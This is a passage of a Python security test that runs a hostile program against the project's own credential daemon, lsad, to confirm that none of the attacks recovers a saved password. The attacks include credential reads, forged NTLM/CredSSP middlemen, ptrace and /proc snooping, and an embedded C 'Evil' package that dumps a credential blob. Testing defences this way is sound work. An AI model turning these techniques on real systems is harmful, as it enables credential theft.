#!/usr/bin/env python3
"""A hostile program against lsad: it runs as the user whose password is saved, or as a server of root's, and tries every way to it.

Needs what lsad.py needs. Called with --attack NAME it is that program: it says what it got as JSON, and every byte it laid
hands on. The same program embedded, where nothing is promised, does get the password: so the attacks are real ones."""
import ctypes
import grp
import hashlib
import hmac
import json
import os
import subprocess
import sys

SECRET = "Th3-Saved-0ne!"
TARGET = "TERMSRV/desk.example.com"
CONTINUE, NOT_OWNER, BY_POLICY = 0x00090312, 0x80090306, 0x8009035E
TO_SERVER, TO_CLIENT = (f"CredSSP {way} Binding Hash\0".encode() for way in ("Client-To-Server", "Server-To-Client"))
KEY = bytes.fromhex("302a300506032b6570032100") + hashlib.sha256(b"a key of Ed25519").digest()
PTRACE_ATTACH = 16


# ---- the library, through ctypes

class SecBuffer(ctypes.Structure):
    _fields_ = [("n", ctypes.c_uint32), ("type", ctypes.c_uint32), ("p", ctypes.c_void_p)]


class SecBufferDesc(ctypes.Structure):
    _fields_ = [("version", ctypes.c_uint32), ("n", ctypes.c_uint32), ("p", ctypes.POINTER(SecBuffer))]


class Handle(ctypes.Structure):
    _fields_ = [("lower", ctypes.c_size_t), ("upper", ctypes.c_size_t)]


class Credential(ctypes.Structure):
    _fields_ = [("flags", ctypes.c_uint32), ("type", ctypes.c_uint32), ("target", ctypes.c_char_p), ("comment", ctypes.c_char_p),
                ("written", ctypes.c_uint64), ("size", ctypes.c_uint32), ("blob", ctypes.c_void_p)]


class Buffers:
    def __init__(self, *parts):
        self.room = [ctypes.create_string_buffer(data, max(len(data), 1)) for _, data in parts]
        self.list = (SecBuffer * len(parts))(*(SecBuffer(len(data), kind, ctypes.addressof(room) if data else None)
                                               for (kind, data), room in zip(parts, self.room)))
        self.desc = SecBufferDesc(0, len(parts), self.list)

    def bytes(self, i):
        b = self.list[i]
        return ctypes.string_at(b.p, b.n) if b.p and b.n else b""


class Luid(ctypes.Structure):
    _fields_ = [("low", ctypes.c_uint32), ("high", ctypes.c_int32)]


class String(ctypes.Structure):
    _fields_ = [("length", ctypes.c_uint16), ("room", ctypes.c_uint16), ("text", ctypes.c_void_p)]


def rc4(key):
    """A stream of RC4: each call goes on where the last one ended."""
    s, j, state = list(range(256)), 0, [0, 0]
    for i in range(256):
        j = (j + s[i] + key[i % len(key)]) & 255
        s[i], s[j] = s[j], s[i]

    def apply(data):
        out = bytearray()
        for byte in data:
            state[0] = (state[0] + 1) & 255
            state[1] = (state[1] + s[state[0]]) & 255
            s[state[0]], s[state[1]] = s[state[1]], s[state[0]]
            out.append(byte ^ s[(s[state[0]] + s[state[1]]) & 255])
        return bytes(out)
    return apply


class Sealing:
    """One direction of NTLM's protection, from an exported session key; [MS-NLMP] 3.4."""

    def __init__(self, key, way):
        name = f"session key to {way} ".encode()
        self.sign = hashlib.md5(key + name + b"signing key magic constant\0").digest()
        self.seal_key = hashlib.md5(key + name + b"sealing key magic constant\0").digest()
        self.number, self.stream = 0, rc4(self.seal_key)

    def signature(self, text):
        number = self.number.to_bytes(4, "little")
        self.number += 1
        return b"\1\0\0\0" + self.stream(hmac.new(self.sign, number + text, "md5").digest()[:8]) + number

    def mic(self, text):
        """Of SPNEGO: the stream begins anew after it."""
        out = self.signature(text)
        self.stream = rc4(self.seal_key)
        return out

    def seal(self, text):
        sealed = self.stream(text)
        return self.signature(text) + sealed

    def open(self, sealed):
        text = self.stream(sealed[16:])
        return text if self.signature(text) == sealed[:16] else b""


class Api:
    def __init__(self):
        self.lib = ctypes.CDLL(os.environ["SSPI_LIBRARY"])
        self.loot = []  # whatever was laid hands on

    def acquire(self, package, use, logon=None):
        handle = Handle()
        session = ctypes.byref(logon) if logon else None
        status = self.lib.AcquireCredentialsHandleA(None, package.encode(), use, session, None, None, None, ctypes.byref(handle), None)
        return status & 0xFFFFFFFF, handle

    def leg(self, credential, context, token, target=None, shown=b"", flags=0x101):
        """(status, context, token); without a target as a server."""
        parts = [(2, token)] + ([(0x80000002, len(shown).to_bytes(4, "little") + shown)] if shown else []) + [(0, b"")]
        given, said, attributes, new = Buffers(*parts), Buffers((2, b"")), ctypes.c_uint32(), Handle()
        old, where = (ctypes.byref(context), context) if context else (None, new)
        if target:
            first = None if not context and not shown else ctypes.byref(given.desc)
            status = self.lib.InitializeSecurityContextA(ctypes.byref(credential), old, target.encode(), flags, 0, 16, first, 0,
                                                         ctypes.byref(where), ctypes.byref(said.desc), ctypes.byref(attributes), None)
        else:
            status = self.lib.AcceptSecurityContext(ctypes.byref(credential), old, ctypes.byref(given.desc), 0x110, 16,
                                                    ctypes.byref(where), ctypes.byref(said.desc), ctypes.byref(attributes), None)
        out = said.bytes(0)
        self.loot.append(out)
        return status & 0xFFFFFFFF, where, out

    def query(self, context, attribute):
        room = ctypes.create_string_buffer(4096)
        status = self.lib.QueryContextAttributesA(ctypes.byref(context), attribute, room) & 0xFFFFFFFF
        if status == 0:
            self.loot.append(room.raw)
        return status, room.raw

    def key(self, context):
        status, raw = self.query(context, 9)
        n, p = int.from_bytes(raw[:4], "little"), int.from_bytes(raw[8:16], "little")
        return ctypes.string_at(p, n) if status == 0 and p and n < 4096 else b""

    def log_on(self, kind, message):
        """LsaLogonUser: (status, session, profile)."""
        connection, package, session, sub = ctypes.c_void_p(), ctypes.c_uint32(), Luid(), ctypes.c_int32()
        profile, size, token, quotas = ctypes.c_void_p(), ctypes.c_uint32(), ctypes.c_void_p(), ctypes.create_string_buffer(64)
        name, room = ctypes.create_string_buffer(b"NTLM"), ctypes.create_string_buffer(message, len(message))
        text = String(4, 4, ctypes.addressof(name))
        self.lib.LsaConnectUntrusted(ctypes.byref(connection))
        self.lib.LsaLookupAuthenticationPackage(connection, ctypes.byref(text), ctypes.byref(package))
        status = self.lib.LsaLogonUser(connection, ctypes.byref(text), kind, package, room, len(room), None, ctypes.create_string_buffer(16),
                                       ctypes.byref(profile), ctypes.byref(size), ctypes.byref(session), ctypes.byref(token), quotas,
                                       ctypes.byref(sub)) & 0xFFFFFFFF
        told = ctypes.string_at(profile, size.value) if profile.value else b""
        self.loot.append(told)
        return status, session, told

    def open(self, context, sealed):
        message = Buffers((10, sealed), (1, b""))
        status = self.lib.DecryptMessage(ctypes.byref(context), ctypes.byref(message.desc), 0, None)
        plain = message.bytes(1) if status == 0 else b""
        self.loot.append(plain)
        return plain

    def seal(self, context, plain):
        trailer = int.from_bytes(self.query(context, 0)[1][12:16], "little")
        message = Buffers((2, bytes(trailer)), (1, plain))
        status = self.lib.EncryptMessage(ctypes.byref(context), 0, ctypes.byref(message.desc), 0)
        return message.bytes(0) + message.bytes(1) if status == 0 else b""


def begin(api, **more):
    """The victim's side, with what is saved: (credential, status, context, TSRequest)."""
    logon = int(os.environ.get("LOGON", "0"))  # of a session that somebody else signed in
    status, credential = api.acquire("TSSSP", 2, Luid(logon & 0xFFFFFFFF, logon >> 32) if logon else None)
    if status:
        return credential, status, None, b""
    return (credential, *api.leg(credential, None, b"", **dict({"target": TARGET, "shown": KEY}, **more)))


# ---- the attacks; each answers what it saw

def attack_read(api):
    found, seen = ctypes.POINTER(Credential)(), []
    for kind in range(1, 8):
        for name in (TARGET, "desk.example.com"):
            if api.lib.CredReadA(name.encode(), kind, 0, ctypes.byref(found)):
                seen.append((kind, found.contents.size))
                api.loot.append(ctypes.string_at(found.contents.blob, found.contents.size) if found.contents.size else b"")
    return {"seen": seen}


def attack_rewrite(api):
    """The blob of what is saved, kept for a credential of a kind that may be read."""
    found, seen = ctypes.POINTER(Credential)(), []
    for kind in (1, 4):
        room = ctypes.create_string_buffer(256)
        c = Credential.from_buffer(room)
        c.type, c.target = kind, TARGET.encode()
        ctypes.c_uint32.from_address(ctypes.addressof(room) + ctypes.sizeof(Credential)).value = 2  # CRED_PERSIST_LOCAL_MACHINE
        user = ctypes.create_string_buffer(b"LAB\\carol")
        ctypes.c_void_p.from_address(ctypes.addressof(room) + ctypes.sizeof(Credential) + 24).value = ctypes.addressof(user)
        api.lib.CredWriteA(room, 1)
        seen.append(api.lib.OpensspiGetLastError())
        if api.lib.CredReadA(c.target, kind, 0, ctypes.byref(found)):
            api.loot.append(ctypes.string_at(found.contents.blob, found.contents.size) if found.contents.size else b"")
    return {"seen": seen}


def attack_vault(api):
    """The vault's rows, as frames: what a program's library would not send."""
    import lsad_wire as wire
    w = wire.Wire(os.environ["OPENSSPI_LSA"].split(":", 1)[1])
    text, seen = b"\4\0\0\0pass", {}
    for name, which, payload in (("export", 34, text), ("move", 37, text + b"\0"), ("move and merge", 37, text + b"\1")):
        answer = w.call(which, payload)
        seen[name] = answer and answer[0]
        api.loot.append(answer[1] if answer else b"")
    room, count = os.memfd_create("export"), ctypes.c_uint64()
    seen["library"] = api.lib.OpensspiVaultExport(b"pass", room, ctypes.byref(count))
    api.loot.append(os.pread(room, 1 << 20, 0))
    seen["bytes"] = os.fstat(room).st_size
    return seen


def hold(api):
    """Signs in with the password, says which session that is, and waits."""
    parts = [t.encode("utf-16-le") for t in ("LAB", "carol", SECRET)]
    head, at = bytearray(56), 56
    head[0] = 2  # MsV1_0InteractiveLogon
    for place, part in zip((8, 24, 40), parts):
        head[place:place + 4] = len(part).to_bytes(2, "little") * 2
        head[place + 8:place + 16] = at.to_bytes(8, "little")
        at += len(part)
    status, session, _ = api.log_on(2, bytes(head) + b"".join(parts))
    print(json.dumps([status, session.high << 32 | session.low]), flush=True)
    sys.stdin.read()


def attack_enumerate(api):
    count, found = ctypes.c_uint32(), ctypes.POINTER(ctypes.POINTER(Credential))()
    seen = []
    for flags in (0, 1):
        if api.lib.CredEnumerateA(None, flags, ctypes.byref(count), ctypes.byref(found)):
            for i in range(count.value):
                c = found[i].contents
                seen.append((c.type, c.size))
                api.loot.append(ctypes.string_at(c.blob, c.size) if c.size else b"")
    return {"seen": seen}


def attack_both_ends(api):
    """TSSSP at both ends."""
    credential, status, client, token = begin(api)
    got, inbound = api.acquire("TSSSP", 1)
    if got:
        return {"inbound": got}
    server, server_status = None, CONTINUE
    while token and server_status == CONTINUE:
        server_status, server, token = api.leg(inbound, server, token, shown=KEY)
        if token and status == CONTINUE:
            status, client, token = api.leg(credential, client, token, TARGET, KEY)
    if server_status == 0:
        raw = api.query(server, 0x80000080)[1]
        n, p = int.from_bytes(raw[:4], "little"), int.from_bytes(raw[8:16], "little")
        api.loot.append(ctypes.string_at(p, n) if p and n < 4096 else b"")
    return {"inbound": 0, "client": status, "server": server_status}


def attack_middle(api, package="Negotiate"):
    """The server's side by hand, with the keys of a sign-in that this very program accepted."""
    from credssp_spnego import fields, children, ts_request  # of the peer tests
    credential, status, client, token = begin(api)
    got, inbound = api.acquire(package, 1)
    if got or status != CONTINUE:
        return {"inbound": got, "client": status}
    server, accepted, nonce = None, CONTINUE, b""

    def read(data):
        f = fields(data)
        out = {n: children(f[n])[0][1] for n in (2, 3, 5) if n in f}
        if 1 in f:
            out[1] = children(children(children(children(f[1])[0][1])[0][1])[0][1])[0][1]
        return out

    binding = b""
    for _ in range(6):
        said = read(token)
        nonce = said.get(5, nonce)
        answer = None
        if 1 in said and accepted == CONTINUE:
            accepted, server, answer = api.leg(inbound, server, said[1])
        if 3 in said:
            binding = said[3]
            break
        if accepted not in (0, CONTINUE):
            return {"inbound": 0, "accepted": accepted, "client": status}
        status, client, token = api.leg(credential, client, ts_request(answer or None), TARGET, KEY)
        if status != CONTINUE:
            return {"inbound": 0, "accepted": accepted, "client": status}
    key = KEY[-32:]
    opened = api.open(server, binding)
    bound = opened == hashlib.sha256(TO_SERVER + nonce + key).digest()
    sealed = api.seal(server, hashlib.sha256(TO_CLIENT + nonce + key).digest())
    status, client, token = api.leg(credential, client, ts_request(answer or None, binding=sealed), TARGET, KEY)
    if token and 2 in read(token):
        api.open(server, read(token)[2])
    return {"inbound": 0, "accepted": accepted, "bound": bound, "client": status}


def attack_bare(api):
    return attack_middle(api, "NTLM")


# ---- a server by hand that has LsaLogonUser tell it the session key

def field_of(message, at):
    n, offset = int.from_bytes(message[at:at + 2], "little"), int.from_bytes(message[at + 4:at + 8], "little")
    return message[offset:offset + n]


def chosen_challenge(negotiate, eight):
    name = "THEIRS".encode("utf-16-le")
    info = b"".join(kind.to_bytes(2, "little") + len(name).to_bytes(2, "little") + name for kind in (1, 2, 3)) + bytes(4)
    flags = int.from_bytes(negotiate[12:16], "little") & ~0x02000002 | 0x00820000

    def place(value, at):
        return len(value).to_bytes(2, "little") * 2 + at.to_bytes(4, "little")
    return (b"NTLMSSP\0\x02\0\0\0" + place(name, 48) + flags.to_bytes(4, "little") + eight + bytes(8) + place(info, 48 + len(name)) +
            name + info)


def lm20_message(authenticate, eight, kind):
    """MSV1_0_LM20_LOGON with what AUTHENTICATE says; its pointers are offsets."""
    parts = [field_of(authenticate, at) for at in (28, 36, 44, 20, 12)]  # domain, user, workstation, NT, LM
    head, at = bytearray(104), 104
    head[:4] = kind.to_bytes(4, "little")
    for place, part in zip((8, 24, 40, 64, 80), parts):
        head[place:place + 4] = len(part).to_bytes(2, "little") * 2
        head[place + 8:place + 16] = at.to_bytes(8, "little")
        at += len(part)
    head[56:64] = eight
    return bytes(head) + b"".join(parts)


def attack_lm20(api, kind=3):
    from credssp_spnego import MECHS, children, fields, neg_resp, read_neg, ts_request

    def read(data):
        f = fields(data)
        out = {n: children(f[n])[0][1] for n in (2, 3, 5) if n in f}
        if 1 in f:
            out[1] = children(children(children(children(f[1])[0][1])[0][1])[0][1])[0][1]
        return out

    credential, status, client, token = begin(api)
    if status != CONTINUE:
        return {"logon": 0, "key": False, "client": status}
    said, eight = read(token), b"\x01\x23\x45\x67\x89\xab\xcd\xef"
    nonce, wrapped = said.get(5, b""), said[1][0] == 0x60
    challenge = chosen_challenge(read_neg(said[1])[1] if wrapped else said[1], eight)
    status, client, token = api.leg(credential, client, ts_request(neg_resp(1, True, challenge) if wrapped else challenge), TARGET, KEY)
    said = read(token)
    nonce = said.get(5, nonce)
    _, answer, mic = read_neg(said[1]) if wrapped else (None, said[1], None)
    logged, _, told = api.log_on(3, lm20_message(answer, eight, kind))
    key = told[28:44]
    seen = {"logon": logged, "key": any(key), "client": status}
    exported = rc4(key)(field_of(answer, 52)) if any(key) else bytes(16)
    from_client, to_client = Sealing(exported, "client-to-server"), Sealing(exported, "server-to-client")
    if mic:
        from_client.mic(MECHS)
    last = neg_resp(0, mic=to_client.mic(MECHS) if mic else None) if wrapped else None
    if 3 not in said:
        status, client, token = api.leg(credential, client, ts_request(last), TARGET, KEY)
        said, last = read(token) if token else {}, None
    seen["bound"] = from_client.open(said.get(3, bytes(16))) == hashlib.sha256(TO_SERVER + nonce + KEY[-32:]).digest()
    sealed = to_client.seal(hashlib.sha256(TO_CLIENT + nonce + KEY[-32:]).digest())
    seen["client"], client, token = api.leg(credential, client, ts_request(last, binding=sealed), TARGET, KEY)
    if token and 2 in read(token):
        api.loot.append(from_client.open(read(token)[2]))
    return seen


def attack_network(api):
    return attack_lm20(api, 4)


def attack_attributes(api):
    """Everything a context of what is saved might tell, while it is under way."""
    seen = {}
    for package in ("NTLM", "Negotiate", "TSSSP"):
        status, credential = api.acquire(package, 2)
        status, context, _ = api.leg(credential, None, b"", TARGET, KEY if package == "TSSSP" else b"", 0x100 | (package == "TSSSP"))
        answers = [a for a in (*range(0x90), 0x80000080, 0x80000081, 0x80000082, 0x8F500001, 0x8F500002, 0x8F500003, 0x8F500004,
                               0x8F500005, 0x8F500006, 0x8F5000FF)
                   if status == CONTINUE and api.query(context, a)[0] == 0]
        packed, token = Buffers((0, b"")), ctypes.c_void_p()
        exported = api.lib.ExportSecurityContext(ctypes.byref(context), 0, ctypes.byref(packed.list[0]), ctypes.byref(token)) & 0xFFFFFFFF
        api.loot.append(packed.bytes(0))
        seen[package] = {"status": status, "answers": answers, "key": len(api.key(context)), "exported": exported}
    return seen


def attack_keys(api):
    """Public keys that are none."""
    info = "3015300506032b6570030c00"  # an Ed25519 key of eleven bytes
    rsa = "3019300d06092a864886f70d0101010500030800"  # RSA without numbers
    bad = {"nothing": b"", "noise": os.urandom(60), "no key": bytes.fromhex("3000"), "a short key": bytes.fromhex(info) + bytes(11),
           "no RSA key": bytes.fromhex(rsa) + bytes(7), "a key and more": KEY + b"x"}
    return {name: begin(api, shown=data)[1] for name, data in bad.items()}


def attack_change(api):
    """Another target, or another key, in the middle."""
    from credssp_spnego import ts_request
    seen = {}
    for name, target, shown in (("target", "TERMSRV/other.example.com", KEY), ("key", TARGET, KEY[:-1] + bytes([KEY[-1] ^ 1]))):
        credential, status, client, _ = begin(api)
        seen[name] = [status, api.leg(credential, client, ts_request(b"x"), target, shown)[0]]
    return seen


def attack_versions(api):
    from credssp_spnego import ts_request
    seen = {}
    for version in (1, 2, 3, 4):
        credential, status, client, _ = begin(api)
        request = ts_request(b"NTLMSSP\0" + bytes(48)).replace(b"\xa0\x03\x02\x01\x06", bytes([0xa0, 3, 2, 1, version]), 1)
        seen[version] = [status, *api.leg(credential, client, request, TARGET, KEY)[::2]]
        seen[version][2] = seen[version][2].hex()
    return seen


def attack_policy(api):
    return {"status": begin(api, target="HTTP/desk.example.com")[1]}


def attack_ccache(api):
    return {"status": begin(api)[1], "made": os.path.exists(os.environ["KRB5CCNAME"].split(":", 1)[1])}


def attack_memory(api):
    pid, opened = int(os.environ["LSAD_PID"]), []
    for name in ("mem", "maps", "environ", "fd", "auxv", "stack", "syscall"):
        try:
            path = f"/proc/{pid}/{name}"
            data = " ".join(os.listdir(path)).encode() if name == "fd" else open(path, "rb").read(1)
            opened.append(name)
            api.loot.append(data)
        except OSError:
            pass
    libc = ctypes.CDLL(None, use_errno=True)
    traced = libc.ptrace(PTRACE_ATTACH, pid, None, None)
    return {"opened": opened, "traced": traced, "errno": ctypes.get_errno()}


def attack_files(api):
    opened = []
    for folder, _, names in os.walk(os.environ["LSAD_HOME"]):
        for name in names:
            try:
                with open(os.path.join(folder, name), "rb") as f:
                    api.loot.append(f.read())
                opened.append(name)
            except OSError:
                pass
    for path in json.loads(os.environ["LSAD_FILES"]):
        try:
            with open(path, "rb") as f:
                api.loot.append(f.read())
            opened.append(path)
        except OSError:
            pass
    return {"opened": opened}


def attacker(name):
    api = Api()
    if name == "hold":
        hold(api)
        return 0
    seen = globals()["attack_" + name](api)
    loot = b"\0\0".join(api.loot)
    got = any(SECRET.encode(e) in loot for e in ("utf-8", "utf-16-le", "utf-16-be"))
    hashed = hashlib.new("md4", SECRET.encode("utf-16-le")).digest() in loot if "md4" in hashlib.algorithms_available and has_md4() else False
    print(json.dumps({"seen": seen, "got": got or hashed, "bytes": len(loot)}))
    return 0


def has_md4():
    try:
        hashlib.new("md4")
        return True
    except ValueError:
        return False


# ---- the test

EVIL = r"""
#include <stdio.h>
#include <string.h>
#include <windows.h>
#include <security.h>
#include <ntsecapi.h>
#include <ntsecpkg.h>
#include <wincred.h>
#include <opensspi.h>
static LSA_SECPKG_FUNCTION_TABLE *lsa;
static NTSTATUS NTAPI start(ULONG_PTR id, PSECPKG_PARAMETERS p, PLSA_SECPKG_FUNCTION_TABLE t) { lsa = t; return 0; }
static NTSTATUS NTAPI stop(void) { return 0; }
static NTSTATUS NTAPI info(PSecPkgInfoW i)
{
	static WCHAR name[] = { 'E', 'v', 'i', 'l', 0 };
	*i = (SecPkgInfoW){ SECPKG_FLAG_CONNECTION, 1, 99, 1000, name, name };
	return 0;
}
static NTSTATUS NTAPI acquire(PUNICODE_STRING who, ULONG use, PLUID logon, PVOID auth, PVOID f, PVOID a, PLSA_SEC_HANDLE out, PTimeStamp until)
{
	static WCHAR target[] = { @TARGET@, 0 };
	PENCRYPTED_CREDENTIALW found = NULL;
	NTSTATUS status = (NTSTATUS)0xC00000BB;
	if (lsa->CrediRead)
		status = lsa->CrediRead(NULL, CREDP_FLAGS_IN_PROCESS, target, CRED_TYPE_DOMAIN_PASSWORD, 0, &found);
	fprintf(stderr, "evil %08x", (unsigned)status);
	if (status >= 0 && found)
		fwrite(found->Cred.CredentialBlob, 1, found->Cred.CredentialBlobSize, stderr);
	return (NTSTATUS)0xC000006D;
}
static NTSTATUS NTAPI traits(SECPKG_EXTENDED_INFORMATION_CLASS class, PSECPKG_EXTENDED_INFORMATION *out)
{
	if ((ULONG)class != OPENSSPI_PACKAGE_TRAITS_CLASS)
		return (NTSTATUS)0xC00000BB;
	OPENSSPI_PACKAGE_TRAITS *t = lsa->AllocateLsaHeap(sizeof(*t));
	*t = (OPENSSPI_PACKAGE_TRAITS){ OPENSSPI_PACKAGE_TRAITS_CLASS, OPENSSPI_AUTH_DATA_OPAQUE, OPENSSPI_HOME_CALLER };
	*out = (void *)t;
	return 0;
}
static SECPKG_FUNCTION_TABLE table = { .GetExtendedInformation = traits, .Initialize = start, .Shutdown = stop, .GetInfo = info, .AcquireCredentialsHandle = acquire };
__attribute__((visibility("default"))) NTSTATUS NTAPI SpLsaModeInitialize(ULONG v, PULONG version, PSECPKG_FUNCTION_TABLE *t, PULONG n)
{
	*version = SECPKG_INTERFACE_VERSION;
	*t = &table;
	*n = 1;
	return 0;
}
"""


def attack_package(api):
    return {"acquired": api.acquire("Evil", 2)[0]}


class Foe:
    """Runs this file as the user, with his own home and library; as a member of a group, if one is given."""

    def __init__(self, lab, daemon, user, group=None):
        import shutil
        self.lab, self.user = lab, user
        self.prefix = user.prefix
        if group is not None:
            self.prefix = ["setpriv", "--reuid", str(user.uid), "--regid", str(group), "--clear-groups"]
        program = lab.path("program")
        here = os.path.dirname(os.path.abspath(__file__))
        for name in ("lsad_attack.py", "credssp_spnego.py", "lsad_wire.py", "lib.py"):
            shutil.copy(os.path.join(here, name), program)
        files = [os.path.join(f, n) for f, _, names in os.walk(lab.env["OPENSSPI_HOME"]) for n in names]
        self.env = dict(user.env, SSPI_LIBRARY=os.path.join(program, "libopensspi.so.0"), LSAD_PID=str(daemon.process.pid),
                        LSAD_HOME=lab.env["OPENSSPI_HOME"], LSAD_FILES=json.dumps(files), PYTHONDONTWRITEBYTECODE="1")

    def holds(self):
        """(program, session): one of the user's that has signed in."""
        command = [*self.prefix, sys.executable, os.path.join(self.lab.path("program"), "lsad_attack.py"), "--attack", "hold"]
        process = subprocess.Popen(command, env=self.env, stdin=subprocess.PIPE, stdout=subprocess.PIPE)
        self.lab.running.append(process)
        status, session = json.loads(process.stdout.readline() or b"[-1, 0]")
        self.lab.equal("a session is signed in with the password", 0, status)
        return process, session

    def attacks(self, name, **more):
        """What it says, and all that it wrote."""
        command = [*self.prefix, sys.executable, os.path.join(self.lab.path("program"), "lsad_attack.py"), "--attack", name]
        env = {k: v for k, v in dict(self.env, **more).items() if v is not None}
        done = subprocess.run(command, env=env, capture_output=True, timeout=60, check=False, stdin=subprocess.DEVNULL)
        try:
            said = json.loads(done.stdout.decode().splitlines()[-1])
        except (ValueError, IndexError):
            said = {"seen": {}, "got": None, "bytes": 0}
        everything = done.stdout + done.stderr
        said["leaked"] = said["got"] is not False or any(SECRET.encode(e) in everything for e in ("utf-8", "utf-16-le"))
        said["words"] = done.stderr.decode(errors="replace")[-400:]
        return said

    def gets_nothing(self, title, name, seen=None, **more):
        said = self.attacks(name, **more)
        good = not said["leaked"] and (seen is None or seen(said["seen"]))
        self.lab.check(f"{title} gets nothing", good, json.dumps(said))
        return said


def compile_evil(lab):
    from lsad import SOURCE
    path = os.path.join(lab.path("program"), "evil.so")
    source = EVIL.replace("@TARGET@", ", ".join(str(ord(c)) for c in TARGET))
    done = subprocess.run(["cc", "-shared", "-fPIC", "-D_GNU_SOURCE", "-w", "-I", os.path.join(SOURCE, "include"), "-x", "c", "-", "-o", path],
                          input=source, capture_output=True, text=True, check=False)
    if done.returncode:
        print("# " + done.stderr[-600:])
    else:
        os.chmod(path, 0o755)
    return path if done.returncode == 0 else ""


def as_its_user(lab, foe):
    def empty(seen):
        return seen["seen"] and all(size == 0 for _, size in seen["seen"])

    foe.gets_nothing("CredRead", "read", empty)
    foe.gets_nothing("CredEnumerate", "enumerate", empty)
    foe.gets_nothing("keeping the blob in another kind of credential", "rewrite", lambda s: s["seen"] == [1168, 50])  # not found, and not a kind that is written
    foe.gets_nothing("the vault's export and move", "vault",
                     lambda s: [s[k] for k in ("export", "move", "move and merge")] == [0xC00000BB] * 3 and s["library"] and not s["bytes"])
    evil = compile_evil(lab)
    if lab.check("a package of its own is compiled", bool(evil)):
        said = foe.gets_nothing("CrediRead in a package of its own", "package", lambda s: s["acquired"] >= 0x80000000, OPENSSPI_PACKAGES=evil)
        lab.check("which did run", "evil " in said["words"] and "evil 00000000" not in said["words"], json.dumps(said))
    foe.gets_nothing("both ends of CredSSP", "both_ends", lambda s: s["inbound"] == NOT_OWNER)
    for title, name in (("a server by hand, with the keys of a Negotiate sign-in that it accepts itself,", "middle"),
                        ("the same with bare NTLM", "bare")):
        foe.gets_nothing(title, name, lambda s: s.get("client") == BY_POLICY)
    for name in ("lm20", "network"):
        foe.gets_nothing(f"a server by hand that has LsaLogonUser judge a chosen challenge's response ({name})", name,
                         lambda s: s["logon"] == 0 and not s["key"])
    foe.gets_nothing("asking contexts for keys and exporting them", "attributes",
                     lambda s: all(p["key"] == 0 and p["exported"] >= 0x80000000 for p in s.values()) and s["TSSSP"]["answers"] == [])
    foe.gets_nothing("a public key that is none", "keys", lambda s: len(s) == 6 and all(status >= 0x80000000 for status in s.values()))
    foe.gets_nothing("another target or key in the middle", "change",
                     lambda s: all(first == CONTINUE and then >= 0x80000000 for first, then in s.values()))
    foe.gets_nothing("an old version", "versions",
                     lambda s: len(s) == 4 and all(v[0] == CONTINUE and v[1] >= 0x80000000 and not v[2] for v in s.values()))
    etc = os.path.join(foe.env["OPENSSPI_HOME"], "etc")
    os.makedirs(etc, exist_ok=True)
    with open(os.path.join(etc, "opensspi.conf"), "w", encoding="utf-8") as f:
        f.write("[policy]\nAllowSavedCredentials = *\nAllowSavedCredentialsWhenNTLMOnly = *\nAllowEncryptionOracle = 2\n[lsa]\nservers = nogroup\n")
    foe.gets_nothing("a policy of its own", "policy", lambda s: s["status"] == BY_POLICY)
    foe.gets_nothing("a group of servers of its own", "both_ends", lambda s: s["inbound"] == NOT_OWNER)
    os.remove(os.path.join(etc, "opensspi.conf"))
    ccache = os.path.join(foe.env["OPENSSPI_HOME"], "ccache")
    foe.gets_nothing("a ticket cache of its own", "ccache", lambda s: s["status"] == CONTINUE and not s["made"], KRB5CCNAME="FILE:" + ccache)
    if foe.user.uid:
        foe.gets_nothing("ptrace and /proc of lsad", "memory", lambda s: s["opened"] == [] and s["traced"] == -1)
        foe.gets_nothing("reading lsad's files", "files", lambda s: s["opened"] == [])


def by_sessions(lab, owner, foes):
    """A session's default credentials: as those that are saved."""
    process, session = owner.holds()
    for title, foe, refusal in foes:
        for name in ("both_ends", "middle", "bare", "lm20"):
            foe.gets_nothing(f"{title} with another's session, {name},", name, lambda s, wanted=refusal: s.get("client", s.get("inbound")) == wanted,
                             LOGON=str(session))
    process.stdin.close()
    process.wait()


def as_member(lab, foe, trusted):
    """Who is of a group that lsad knows: he may be a server, though not of a client of the same lsad."""
    kind = "a trusted one" if trusted else "a member of [lsa] servers"
    foe.gets_nothing(f"{kind} at both ends", "both_ends", lambda s: s["inbound"] == 0 and s["client"] == BY_POLICY)
    for name in ("middle", "lm20", "network"):
        foe.gets_nothing(f"{kind} by hand, {name},", name, lambda s: s.get("client") == BY_POLICY and s.get("key", True))
    foe.gets_nothing(f"{kind}, the vault's rows,", "vault", lambda s: s["export"] == 0xC00000BB and not s["bytes"])
    foe.gets_nothing(f"{kind} who reads", "read", lambda s: s["seen"] and all(size == 0 for _, size in s["seen"]))
    foe.gets_nothing(f"{kind}, lsad's memory,", "memory", lambda s: s["opened"] == [] and s["traced"] == -1)
    foe.gets_nothing(f"{kind}, lsad's files,", "files", lambda s: s["opened"] == [])


def as_root(lab, root):
    """Root may be a server; but not for a client of the same lsad."""
    root.gets_nothing("both ends, one of them root's server,", "both_ends", lambda s: s["inbound"] == 0 and s["client"] == BY_POLICY)
    root.gets_nothing("root's server by hand", "middle", lambda s: s.get("client") == BY_POLICY)
    for name in ("lm20", "network"):
        root.gets_nothing(f"root's server by hand, with a key of LsaLogonUser ({name}),", name, lambda s: s["logon"] == 0 and s["client"] == BY_POLICY)


def main():
    from ends import SspiPipe  # noqa: F401  (lsad's)
    from lib import Lab, Server, missing
    import lsad
    lab = Lab()
    why = missing("setpriv", "cc") or ("it takes root" if os.geteuid() else "") or ("" if os.path.exists(lsad.LSAD) else "lsad is not built")
    if why:
        lab.skip("lsad_attack", why)
        return lab.finish()
    try:
        lsad.prepare(lab)
        groups = [g for g in grp.getgrall() if g.gr_gid and not g.gr_mem][:2]
        policy = ("[policy]\nAllowSavedCredentials = TERMSRV/*\nAllowSavedCredentialsWhenNTLMOnly = TERMSRV/*\n"
                  "AllowDefaultCredentials = TERMSRV/*\nAllowDefCredentialsWhenNTLMOnly = TERMSRV/*\n"
                  "AcceptedTargetNames = *.example.com\nAllowEncryptionOracle = 2\n")
        lab.configure(policy + f"[lsa]\nservers = {groups[0].gr_name}\ntrusted = {groups[1].gr_name}\n")
        code, out, err = lab.sspi("account", "add", "LAB\\carol", password=SECRET)
        lab.equal("lsad knows the account as well", 0, code, err)
        daemon = lsad.Daemon(lab)
        users = [lsad.User(lab, daemon, lsad.FOE), lsad.User(lab, daemon)]
        for user in users:
            code, out, err = user.run("cred", "add", TARGET, "--user", "LAB\\carol", secret=SECRET)
            lab.equal(f"a password is saved for {user.uid or 'root'}", 0, code, out + err)
            user.run("cred", "add", "desk.example.com", "--user", "LAB\\carol", secret=SECRET)
        server = Server(lab)
